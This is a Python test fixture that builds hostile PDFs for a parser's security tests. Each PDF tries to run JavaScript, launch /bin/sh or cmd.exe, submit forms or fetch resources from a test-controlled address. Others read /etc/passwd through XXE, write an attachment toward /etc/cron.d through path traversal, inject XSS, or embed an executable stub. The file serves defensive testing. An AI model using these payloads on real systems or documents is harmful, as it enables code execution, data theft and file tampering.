"""PDFs that want something done: run a script, call an address, unpack a file.

Each names `home`, an address at which the test listens: nobody may ever call there.
"""

from collections.abc import Callable

from tests.hostile.evil_pdfs.builder import FONT, one_page, page_object, show, stream
from tests.hostile.evil_pdfs.case import NO_TEXT, PARSED, EvilPdf

_Make = Callable[[bytes], bytes]

_SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('%s', true); this.submitForm('%s')) >>"
_XSS = b"<script>fetch('%s')</script><img src=x onerror=alert(1)>"
_XMP = (
    b'<?xpacket begin=""?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">'
    b'<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">&e;&f;<script src="%s"></script></x:xmpmeta>'
)
_XFA = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
    b'<event activity="initialize">'
    b'<script contentType="application/x-javascript">app.launchURL("%s")</script></event></subform>'
    b"</template><connectionSet><wsdlConnection><wsdlAddress>%s</wsdlAddress></wsdlConnection>"
    b"</connectionSet></xdp:xdp>"
)


def _on_open(action: bytes) -> _Make:
    """The action runs when the file is opened, its page shown, its link hovered over or clicked."""

    def make(home: bytes) -> bytes:
        told = action.replace(b"%s", home)
        link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /E %s /PV %s >> >>"
        page = page_object(b"/AA << /O %s /C %s >> /Annots [6 0 R]" % (told, told))
        catalog = b"/OpenAction %s /AA << /WC %s /WS %s >>" % (told, told, told)
        return one_page(None, link % (told, told, told), catalog=catalog, page=page)

    return make


def _file_at(home: bytes) -> bytes:
    return b"<< /Type /Filespec /FS /URL /F (%s) /UF (%s) >>" % (home, home)


def _attached(content: bytes) -> _Make:
    def make(_home: bytes) -> bytes:
        names = b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>"
        spec = b"<< /Type /Filespec /F (../../../etc/cron.d/x) /EF << /F 7 0 R >> >>"
        return one_page(None, spec, stream(content, b"/Type /EmbeddedFile"), catalog=names)

    return make


def _annotated(entries: bytes) -> _Make:
    def make(home: bytes) -> bytes:
        note = b"<< /Type /Annot /Rect [0 0 595 842] %s >>" % entries.replace(b"%f", _file_at(home))
        return one_page(None, note, page=page_object(b"/Annots [6 0 R]"))

    return make


def _catalog(entries: bytes, data: bytes = b"") -> _Make:
    """Object 6 is a stream of the data."""

    def make(home: bytes) -> bytes:
        return one_page(
            None,
            stream(data.replace(b"%s", home), b"/Type /Metadata /Subtype /XML"),
            catalog=entries.replace(b"%s", home).replace(b"%f", _file_at(home)),
        )

    return make


def _information(home: bytes) -> bytes:
    told = _XSS.replace(b"%s", home)
    info = b"<< /Title (%s) /Author (%s) /Producer (%s) /Subject (\\000\\377) >>" % (
        told,
        told,
        told,
    )
    return one_page(None, info, trailer=b"/Info 6 0 R")


def _contents_elsewhere(home: bytes) -> bytes:
    return one_page(stream(b"", b"/F %s /FFilter /FlateDecode" % _file_at(home)))


def _font_elsewhere(home: bytes) -> bytes:
    font = FONT.replace(b"/Helvetica", b"/Strange /FontDescriptor 6 0 R")
    descriptor = b"<< /Type /FontDescriptor /FontName /Strange /Flags 32 /FontFile2 7 0 R >>"
    return one_page(None, descriptor, stream(b"", b"/F " + _file_at(home)), font=font)


def _page_elsewhere(home: bytes) -> bytes:
    """A reference XObject: the page of another file."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>" % _file_at(
        home
    )
    page = page_object(resources=b"/XObject << /N 6 0 R >>")
    return one_page(stream(b"/N Do " + show()), stream(b"", form), page=page)


def _picture_elsewhere(home: bytes) -> bytes:
    entries = (
        b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Alternates [<< /Image 6 0 R >>]"
        b" /OPI << /2.0 << /Type /OPI /Version 2.0 /F %s >> >> /F %s"
    )
    page = page_object(resources=b"/XObject << /I 6 0 R >>")
    picture = stream(b"", entries % (_file_at(home), _file_at(home)))
    return one_page(stream(b"/I Do " + show()), picture, page=page)


_MAKERS: dict[str, _Make] = {
    "javascript": _on_open(_SCRIPT),
    "a program to launch": _on_open(
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    ),
    "a file to launch": _on_open(b"<< /S /Launch /NewWindow true /F (%s) >>"),
    "an address": _on_open(b"<< /S /URI /URI (%s) /IsMap true >>"),
    "a page of another file": _on_open(b"<< /S /GoToR /F (%s) /D [0 /Fit] >>"),
    "a page of a share": _on_open(b"<< /S /GoToR /F (\\\\\\\\127.0.0.1\\\\x) /D [0 /Fit] >>"),
    "a page of an embedded file": _on_open(
        b"<< /S /GoToE /F (%s) /D [0 /Fit] /T << /R /C /N (x) >> >>"
    ),
    "a form to send": _on_open(b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Flags 4 >>"),
    "data to import": _on_open(b"<< /S /ImportData /F (%s) >>"),
    "a film": _on_open(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (%s) >> >> >>"),
    "a sound": _on_open(b"<< /S /Sound /Sound << /F (%s) /R 8000 >> >>"),
    "actions that follow each other": _on_open(
        b"<< /S /URI /URI (%s) /Next [<< /S /Named /N /Print >> 6 0 R] >>"
    ),
    "scripts by name": _catalog(
        b"/Names << /JavaScript << /Names [(a) %j] >> >>".replace(b"%j", _SCRIPT)
    ),
    "a base for addresses": _catalog(b"/URI << /Base (%s) >>"),
    "forms": _catalog(
        b"/AcroForm << /Fields [6 0 R] /NeedAppearances true /XFA 6 0 R >> /NeedsRendering true",
        _XFA,
    ),
    "metadata": _catalog(b"/Metadata 6 0 R", _XMP),
    "a web page it was captured from": _catalog(b"/SpiderInfo << /V 1 /C [<< /URL (%s) >>] >>"),
    "a certificate to look up": _catalog(
        b"/DSS << /OCSPs [6 0 R] /CRLs [6 0 R] >> /Perms << /DocMDP 6 0 R >>", b"%s"
    ),
    "a collection": _catalog(b"/Collection << /View /D /D (x) >> /AF [%f]"),
    "an output profile": _catalog(
        b"/OutputIntents [<< /S /GTS_PDFX /DestOutputProfileRef << /URLs [%f] >> >>]"
    ),
    "an attached pdf": _attached(one_page()),
    "an attached program": _attached(b"MZ" + b"\0" * 500),
    "rich media": _annotated(
        b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(x) %f] >> >>"
    ),
    "a screen": _annotated(
        b"/Subtype /Screen /A << /S /Rendition /R << /S /MR /C << /S /MCD /D %f >> >> >>"
    ),
    "a movie": _annotated(b"/Subtype /Movie /Movie << /F %f /Poster true >> /A true"),
    "an attachment pinned to the page": _annotated(b"/Subtype /FileAttachment /FS %f"),
    "a 3d model": _annotated(b"/Subtype /3D /3DD << /Type /3D /F %f >> /3DA << /A /PO >>"),
    "information": _information,
    "a font from elsewhere": _font_elsewhere,
    "a page from elsewhere": _page_elsewhere,
    "a picture from elsewhere": _picture_elsewhere,
}


def _case(name: str, make: _Make, *outcomes: str) -> EvilPdf:
    return EvilPdf(f"wants: {name}", lambda home: make(home.encode()), frozenset(outcomes))


CASES: list[EvilPdf] = [
    *(_case(name, make, PARSED) for name, make in _MAKERS.items()),
    _case("contents from elsewhere", _contents_elsewhere, NO_TEXT),
]
